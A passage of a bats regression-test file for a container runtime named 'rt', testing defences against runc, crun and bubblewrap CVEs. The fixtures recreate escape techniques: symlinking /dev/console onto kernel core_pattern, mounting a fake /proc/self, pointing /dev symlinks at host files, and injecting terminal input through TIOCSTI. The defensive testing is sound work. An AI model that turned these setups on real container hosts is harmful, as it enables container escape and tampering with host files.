# /dev/pts/N into one), so a procfs file is covered or a writable copy of it appears.
# rt bind-mounts the pty by its fd, and replaces a /dev/console that is not a regular file
# (a symlink here) with a fresh file before mounting on it. Checked: on the rt before the fix
# /proc/sys/kernel/core_pattern in the container was the pty (test failed).
@test "CVE-2025-52565: /dev/console cannot be redirected onto a procfs file" {
    local r core
    r="$(ROOTFS)"
    core="$(cat /proc/sys/kernel/core_pattern)"
    no_dev_tmpfs
    mkdir -p "$r/dev"
    ln -s /proc/sys/kernel/core_pattern "$r/dev/console"
    cfg '.process.terminal = true'
    set_args sh -c 'echo "console $(stat -c %F /dev/console)"; echo "core $(stat -c %F /proc/sys/kernel/core_pattern)"'
    run_in_script "$RT --root $ROOT run -b $BUNDLE $(new_id)"
    echo "$stdout"
    assert_equal "$status" 0
    assert_contains "$stdout" "console character special file"
    assert_contains "$stdout" "core regular"
    assert_equal "$(cat /proc/sys/kernel/core_pattern)" "$core"
}

# runc CVE-2025-52881: the runtime's writes to /proc/self/... (LSM label, oom score) are
# redirected by a container that mounts over /proc (here: root of a user-namespaced container
# with CAP_SYS_ADMIN puts a tmpfs on /proc whose "self" points to a directory of fake files)
# before `exec` runs. rt's exec writes the oom score from the helper through the host's
# procfs before joining the container's namespaces, never through the container's /proc.
# A racing mount is covered by this static one (the write never looks at the container's
# /proc at all). Checked: the rt before the fix wrote 222 into the fake file (test failed).
@test "CVE-2025-52881: exec's /proc/self writes cannot be redirected by a mount over /proc" {
    local r
    r="$(ROOTFS)"
    mkdir -p "$r/tmp"
    userns_caps CAP_SYS_ADMIN CAP_KILL CAP_SETUID CAP_SETGID CAP_DAC_OVERRIDE
    # shellcheck disable=SC2016
    set_args sh -c 'mount -t tmpfs t /tmp && mkdir /tmp/fake && : >/tmp/fake/oom_score_adj &&
        mount -t tmpfs t /proc && ln -s /tmp/fake /proc/self && echo ready >/tmp/ready; exec sleep 100'
    rtc run -d -b "$BUNDLE" "$ID"
    assert_success
    local pid
    pid="$(state_field "$ID" .pid)"
    wait_file_contains "/proc/$pid/root/tmp/ready" ready 5
    jq '.process | {args:["sleep","100"], cwd:"/", env:["PATH=/bin"], oomScoreAdj:222, capabilities:.capabilities}' \
        "$BUNDLE/config.json" >"$TEST_DIR/process.json"
    rtc exec -d --pid-file "$TEST_DIR/exec.pid" --process "$TEST_DIR/process.json" "$ID"
    assert_equal "$(cat "/proc/$pid/root/tmp/fake/oom_score_adj")" ""
    if ((status == 0)); then
        assert_equal "$(cat "/proc/$(cat "$TEST_DIR/exec.pid")/oom_score_adj")" 222
    else
        assert_error "proc"
    fi
}

# crun CVE-2019-18837: a mount destination that goes through a symlink in the image (here an
# absolute symlink to a host path) made crun create the destination on the host. rt follows
# symlinks inside the rootfs only. The host directory must stay empty; the mounts appear
# inside the container under the symlink's target. Checked: a build whose openat2 lacked
# RESOLVE_IN_ROOT failed.
@test "crun CVE-2019-18837: a symlinked mount destination does not create files on the host" {
    local r host="$TEST_DIR/hostside" payload="$TEST_DIR/payload"
    r="$(ROOTFS)"
    mkdir -p "$host" "$payload/dir"
    echo marker >"$payload/dir/marker"
    echo file >"$payload/file"
    ln -s "$host" "$r/link"
    cfg_args --arg p "$payload" '.mounts += [
        {"destination":"/link/sub/dir","type":"bind","source":($p + "/dir"),"options":["rbind"]},
        {"destination":"/link/file","type":"bind","source":($p + "/file"),"options":["bind"]},
        {"destination":"/link/tmp","type":"tmpfs","source":"tmpfs","options":["nosuid"]}]'
    set_args sh -c 'cat /link/sub/dir/marker /link/file'
    rtc run -b "$BUNDLE" "$ID"
    assert_success
    assert_equal "$stdout" "marker"$'\n'"file"
    assert_equal "$(ls -A "$host")" ""
}

# crun CVE-2026-88264: with no tmpfs on /dev, terminal setup created /dev/console without
# O_NOFOLLOW before pivot_root, so an image's /dev/console symlink to a host path made the
# runtime create a root-owned file on the host (also through the read-only rootfs fallback).
# rt creates /dev/console by fd inside the rootfs, replacing a symlink. Checked: on the rt
# before the fix /dev/console stayed the image's symlink (test failed at the device check);
# and a build that opened <rootfs>/dev/console with O_CREAT by path before pivot_root, as crun
# did, failed at the host-file check ("created on the host").
@test "crun CVE-2026-88264: a /dev/console symlink creates nothing on the host" {
    local r host="$TEST_DIR/host-console"
    r="$(ROOTFS)"
    no_dev_tmpfs
    mkdir -p "$r/dev"
    ln -s "$host" "$r/dev/console"
    cfg '.process.terminal = true'
    set_args sh -c 'echo "console $(stat -c %F /dev/console)"'
    run_in_script "$RT --root $ROOT run -b $BUNDLE $(new_id)"
    assert_equal "$status" 0
    assert_contains "$stdout" "console character special file"
    [[ ! -e "$host" && ! -L "$host" ]] || fail "created on the host: $host"
    cfg '.root.readonly = true'
    ln -sfn "$host" "$r/dev/console"
    run_in_script "$RT --root $ROOT run -b $BUNDLE $(new_id)"
    [[ ! -e "$host" && ! -L "$host" ]] || fail "created on the host (readonly rootfs): $host"
}

# crun CVE-2026-88265: with no tmpfs on /dev, the runtime reopened /dev/null for the
# process's stdio after pivot_root, following an image symlink, attached it to stdio and
# chowned it to the container user. rt never reopens /dev/null nor chowns a null device (it
# chowns stdio by fd only, as runc: files, pipes, sockets and its own pty), and recreates
# an image's /dev/null as the device. The symlink points at a root-only file of a volume
# mounted at its host path, so it reaches that file before and after pivot_root. Two layouts:
# (1) the image's own /dev; (2) /dev bound from a volume (a hostile container may share it; rt
# makes no nodes there, so the symlink stays). The file must keep its owner and must not be
# the process's stdin, and in (1) /dev/null must be the null device, owned by root.
# Checked: a build that, right after pivot_root, reopened "/dev/null" by path over each stdio
# fd that was a null device and fchowned fds 0-2 to process.user (crun's way) failed in (1):
# got "null character special file-1:3-1000:1000"; with that assertion taken out, in (2):
# got "stdin[canary]", and without that one the file was 1000:1000:600. With the build also
# keeping an existing image /dev/null, (1) got "null symbolic link" and "stdin[canary]".
@test "crun CVE-2026-88265: a /dev/null symlink to a host file is not attached to stdio" {
    local r vol="$TEST_DIR/vol" devvol="$TEST_DIR/devvol"
    r="$(ROOTFS)"
    mkdir -p "$vol" "$devvol"
    echo canary >"$vol/secret"
    chmod 0600 "$vol/secret"
    cfg_args --arg v "$vol" \
        '.mounts += [{"destination":$v,"type":"bind","source":$v,"options":["rbind"]}]'
    cfg '.process.user = {"uid":1000,"gid":1000}'
    set_args sh -c 'echo "null $(stat -c %F-%t:%T-%u:%g /dev/null)"; echo "stdin[$(cat)]"'
    no_dev_tmpfs
    mkdir -p "$r/dev"
    ln -s "$vol/secret" "$r/dev/null"
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_contains "$stdout" "null character special file-1:3-0:0"
    assert_contains "$stdout" "stdin[]"
    assert_equal "$(cat "$vol/secret")" canary
    assert_equal "$(stat -c %u:%g:%a "$vol/secret")" 0:0:600
    ln -s "$vol/secret" "$devvol/null"
    cfg_args --arg d "$devvol" \
        '.mounts = [{"destination":"/dev","type":"bind","source":$d,"options":["rbind"]}] + .mounts'
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_contains "$stdout" "stdin[]"
    assert_equal "$(cat "$vol/secret")" canary
    assert_equal "$(stat -c %u:%g:%a "$vol/secret")" 0:0:600
}

# runc CVE-2026-41579: an image whose /dev is a symlink to a host directory made the device
# setup (ptmx, the /dev/fd, stdin, stdout, stderr symlinks, the default nodes) delete and
# create files in that host directory. rt does every /dev operation on a directory fd
# resolved inside the rootfs. The host directory must be unchanged, with and without a tmpfs
# on /dev. Checked: a build whose openat2 lacked RESOLVE_IN_ROOT failed.
@test "runc CVE-2026-41579: an image /dev symlink cannot create or delete host files" {
    local r host="$TEST_DIR/hostdev" before
    r="$(ROOTFS)"
    mkdir -p "$host"
    for f in ptmx null console fd stdin core; do echo "canary $f" >"$host/$f"; done
    before="$(snapshot "$host")"
    rm -rf "$r/dev"
    ln -s "$host" "$r/dev"
    cfg '.process.terminal = false'
    set_args sh -c 'stat -c %F-%t:%T /dev/null'
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_equal "$stdout" "character special file-1:3"
    assert_equal "$(snapshot "$host")" "$before"
    no_dev_tmpfs
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_equal "$(snapshot "$host")" "$before"
}

# crun CVE-2026-30892: `crun exec -u 1` ran the process as uid 0 (the value was misparsed).
# Also -u with --process, which overrides its user. rt parses uid[:gid] with a strict integer
# parser and sets both. Checked: a build that dropped a uid given without ":gid" (uid left 0)
# failed at the first assertion (got "0:0", "Uid: 0 0 0 0"); a build that ignored -u when
# --process was given failed at the last one (got "0:0").
@test "crun CVE-2026-30892: exec -u 1 runs as uid 1" {
    set_args sleep 100
    rtc run -d -b "$BUNDLE" "$ID"
    assert_success
    rtc exec -u 1 "$ID" sh -c 'echo $(id -u):$(id -g); grep -E "^(Uid|Gid)" /proc/self/status | tr -s "\t" " "'
    assert_success
    assert_equal "${lines[0]}" 1:0
    assert_equal "${lines[1]}" "Uid: 1 1 1 1"
    rtc exec --user 1:1 "$ID" sh -c 'echo $(id -u):$(id -g)'
    assert_equal "$stdout" 1:1
    jq -n '{args:["sh","-c","echo $(id -u):$(id -g)"], cwd:"/", env:["PATH=/bin"], user:{uid:1,gid:0}}' \
        >"$TEST_DIR/p.json"
    rtc exec --process "$TEST_DIR/p.json" "$ID"
    assert_equal "$stdout" 1:0
    jq -n '{args:["sh","-c","echo $(id -u):$(id -g)"], cwd:"/", env:["PATH=/bin"]}' >"$TEST_DIR/p.json"
    rtc exec --process "$TEST_DIR/p.json" -u 1 "$ID"
    assert_success
    assert_equal "$stdout" 1:0
}

# bubblewrap CVE-2017-5226: a sandboxed process shares the caller's terminal (no pty asked
# for) and uses ioctl(TIOCSTI) to push "commands" into its input, which the host shell reads
# after the container exits. rt puts the container's process (run and exec) in a new session,
# so the terminal is not its controlling terminal and TIOCSTI fails. The host shell must read
# nothing. Checked: on the rt before the fix the host shell read "echo INJECTED" (test failed).
@test "bubblewrap CVE-2017-5226: TIOCSTI cannot push input into the host terminal" {
    need_rtsec
    [[ "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null || echo 1)" == 1 ]] ||
        echo "# dev.tty.legacy_tiocsti=0: the kernel refuses TIOCSTI anyway" >&3
    cp "$RTSEC" "$(ROOTFS)/bin/rtsec"
    set_args rtsec tiocsti $'echo INJECTED\n'
    run_in_script "$RT --root $ROOT run -b $BUNDLE $(new_id); read -t 1 x; echo \"HOST-READ[\$x]\""
    echo "$stdout"
    assert_contains "$stdout" "HOST-READ[]"
    set_args sleep 100
    rtc run -d -b "$BUNDLE" "$ID"
    assert_success
    run_in_script "$RT --root $ROOT exec $ID rtsec tiocsti 'echo INJECTED
'; read -t 1 x; echo \"HOST-READ[\$x]\""
    echo "$stdout"
    assert_contains "$stdout" "HOST-READ[]"
}
